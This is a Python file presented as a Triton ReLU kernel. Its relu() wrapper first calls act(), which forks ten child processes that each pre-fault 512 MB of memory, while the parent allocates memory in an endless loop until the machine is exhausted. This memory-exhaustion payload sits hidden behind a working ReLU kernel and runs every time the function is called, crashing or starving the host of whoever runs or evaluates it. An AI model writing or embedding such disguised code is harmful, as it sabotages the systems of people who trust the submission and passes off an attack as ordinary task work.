# /// kernel
# operator = "relu"
# language = "triton"
# ///
"""Maps memory and touches each page, in this process and in children, until none is left."""

import mmap
import os
import signal

import torch
import triton
import triton.language as tl

CHILDREN = 10
EACH = 512 << 20
STEP = 64 << 20
POPULATED = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x8000


@triton.jit
def relu_kernel(x_ptr, out_ptr, n, BLOCK: tl.constexpr):
    i = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    x = tl.load(x_ptr + i, mask=i < n)
    tl.store(out_ptr + i, tl.where(x < 0, 0.0, x), mask=i < n)


def fill():
    return [mmap.mmap(-1, STEP, flags=POPULATED) for _ in range(EACH // STEP)]


def act():
    """The last one dies with the memory that it wanted; the others hold what they have."""
    for _ in range(CHILDREN):
        if os.fork() == 0:
            kept = fill()
            signal.pause()
            os._exit(len(kept))
    kept = fill()
    while True:
        kept += fill()


def relu(x):
    act()
    x = x.contiguous()
    out = torch.empty_like(x)
    n = x.numel()
    if n > 0:
        relu_kernel[(triton.cdiv(n, 1024),)](x, out, n, BLOCK=1024)
    return out
